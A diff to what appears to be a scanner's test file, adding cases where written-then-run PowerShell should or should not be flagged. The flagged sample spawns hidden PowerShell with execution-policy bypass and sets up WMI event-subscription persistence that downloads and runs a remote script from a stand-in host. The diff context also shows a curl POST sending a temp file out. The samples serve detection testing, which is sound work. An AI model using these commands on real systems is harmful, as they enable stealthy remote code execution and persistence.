@@ -1995,3 +1995,32 @@ execFileSync('curl', ['-s', '-X', 'POST', '--data-binary', '@' + tmp, 'https://c
     expect(threatsOf(setup('JSON.stringify({ passed: 12, failed: 0 })'))).toEqual([]);
   });
 });
+
+describe('a script the code writes with known text and then runs', () => {
+  const writer = (ps: string) =>
+    load({
+      'index.js': `const fs = require('fs'), os = require('os'), path = require('path'), { spawn } = require('child_process');
+const PS = ${JSON.stringify(ps)};
+const f = path.join(os.tmpdir(), 'pcw-' + process.pid + '.ps1');
+fs.writeFileSync(f, PS);
+spawn('powershell.exe', ['-NoProfile', '-WindowStyle', 'Hidden', '-ExecutionPolicy', 'Bypass', '-File', f], { detached: true, stdio: 'ignore' }).unref();`,
+    });
+  it('a PowerShell file in the temp folder whose consumer runs IEX of a downloaded script', () => {
+    expect(
+      threatsOf(
+        writer(
+          "$c = \"powershell.exe -NoP -W Hidden -c IEX (New-Object Net.WebClient).DownloadString('https://stats.perf-counters.example/c.ps1')\"\nSet-WmiInstance -Namespace root\\\\subscription -Class CommandLineEventConsumer -Arguments @{Name='x'; CommandLineTemplate=$c}",
+        ),
+      ).length,
+    ).toBeGreaterThan(0);
+  });
+  it('quiet: the same file that registers a shell completion', () => {
+    expect(
+      threatsOf(
+        writer(
+          "Register-ArgumentCompleter -Native -CommandName mytool -ScriptBlock { param($w) 'build','test' }",
+        ),
+      ),
+    ).toEqual([]);
+  });
+});
